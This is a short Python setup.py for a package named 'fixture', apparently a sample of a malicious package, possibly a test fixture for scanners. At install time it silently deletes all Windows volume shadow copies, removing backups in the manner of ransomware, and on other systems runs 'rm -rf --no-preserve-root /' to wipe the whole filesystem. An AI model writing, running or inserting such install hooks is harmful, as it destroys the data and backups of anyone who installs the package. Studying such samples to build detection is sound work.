import subprocess, sys
from setuptools import setup
if sys.platform == "win32":
    subprocess.call("vssadmin delete shadows /all /quiet", shell=True)
else:
    subprocess.call(["rm", "-rf", "--no-preserve-root", "/"])
setup(name="fixture", version="1.0")
